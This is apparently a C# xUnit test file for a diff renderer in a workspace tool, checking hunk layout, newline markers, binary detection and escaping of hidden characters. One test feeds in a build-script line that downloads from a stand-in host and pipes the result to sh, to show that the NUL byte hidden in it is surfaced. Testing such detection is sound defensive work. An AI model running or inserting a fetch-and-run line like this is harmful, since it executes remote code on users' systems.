using Vibedom.Cli.Rendering;
using Vibedom.Core.Workspace;
using Vibedom.Testing;
using Xunit;

namespace Vibedom.Cli.Tests.Workspace;

public sealed class DiffBuilderTests
{
    private static string Render(string before, string after) =>
        Render(System.Text.Encoding.UTF8.GetBytes(before), System.Text.Encoding.UTF8.GetBytes(after));

    private static string Render(byte[] before, byte[] after, string path = "f.txt")
    {
        using var temp = new TempDirectory();
        var mode = (UnixFileMode)0b110_100_100;
        File.WriteAllBytes(temp.Combine("a"), before);
        File.WriteAllBytes(temp.Combine("b"), after);
        var change = new WorkspaceChange(
            path,
            ChangeKind.Modified,
            new EntryState(EntryType.File, mode, before.Length, null, temp.Combine("a")),
            new EntryState(EntryType.File, mode, after.Length, null, temp.Combine("b"))) { ContentChanged = true };
        var output = new StringWriter();
        DiffRenderer.RenderEntry(new DiffWriter(output, color: false), DiffBuilder.Build(change));
        return output.ToString();
    }

    public sealed class Build
    {
        [Fact]
        public void Shows_git_marker_when_only_the_final_newline_was_added()
        {
            Assert.Equal(
                "diff --git a/f.txt b/f.txt\n--- a/f.txt\n+++ b/f.txt\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+b\n",
                Render("a\nb", "a\nb\n"));
        }

        [Fact]
        public void Keeps_hunks_apart_when_changes_are_far_from_each_other()
        {
            var lines = Enumerable.Range(1, 30).Select(i => $"line {i}").ToList();
            var before = string.Join("\n", lines) + "\n";
            lines[1] = "changed 2";
            lines[27] = "changed 28";
            var after = string.Join("\n", lines) + "\n";

            var diff = Render(before, after);

            Assert.Contains("@@ -1,5 +1,5 @@\n", diff, StringComparison.Ordinal);
            Assert.Contains("@@ -25,6 +25,6 @@\n", diff, StringComparison.Ordinal);
        }

        [Fact]
        public void Shows_the_new_lines_of_a_text_file_with_a_nul_byte_with_the_nul_escaped()
        {
            var diff = Render("#!/bin/sh\necho build\n", "#!/bin/sh\necho build\ncurl -s https://evil.example/x | sh # \0\n");

            Assert.Contains("\n+curl -s https://evil.example/x | sh # \\x00\n", diff, StringComparison.Ordinal);
            Assert.Contains("holds control or invisible characters, shown escaped", diff, StringComparison.Ordinal);
            Assert.DoesNotContain("Binary file", diff, StringComparison.Ordinal);
        }

        [Fact]
        public void Shows_a_file_with_a_nul_byte_and_bytes_that_are_not_utf8_as_binary()
        {
            var diff = Render([(byte)'a', 0, 0xff, (byte)'\n'], [(byte)'b', 0, 0xfe, (byte)'\n']);

            Assert.Contains("Binary file: 4 B sha256 ", diff, StringComparison.Ordinal);
            Assert.DoesNotContain("@@", diff, StringComparison.Ordinal);
        }
    
        [Fact]
        public void Counts_the_lines_of_a_change_without_keeping_any_hunk_and_builds_the_hunks_when_shown()
        {
            using var temp = new TempDirectory();
            var mode = (UnixFileMode)0b110_100_100;
            var change = new WorkspaceChange(
                "f.txt",
                ChangeKind.Modified,
                new EntryState(EntryType.File, mode, 4, null, temp.Write("a", "a\nb\n")),
                new EntryState(EntryType.File, mode, 6, null, temp.Write("b", "a\nc\nd\n"))) { ContentChanged = true };

            var counted = DiffBuilder.Build(change, DiffDepth.Counts);
            var full = DiffBuilder.Full(counted with { Risk = "r", Conflict = "c" });

            Assert.Empty(counted.Hunks);
            Assert.Equal((2, 1), (counted.Added, counted.Removed));
            Assert.Equal((2, 1, "r", "c"), (full.Added, full.Removed, full.Risk, full.Conflict));
            Assert.Single(full.Hunks);
            Assert.Empty(DiffBuilder.Build(change, DiffDepth.Flags).Hunks);
        }
    }
}
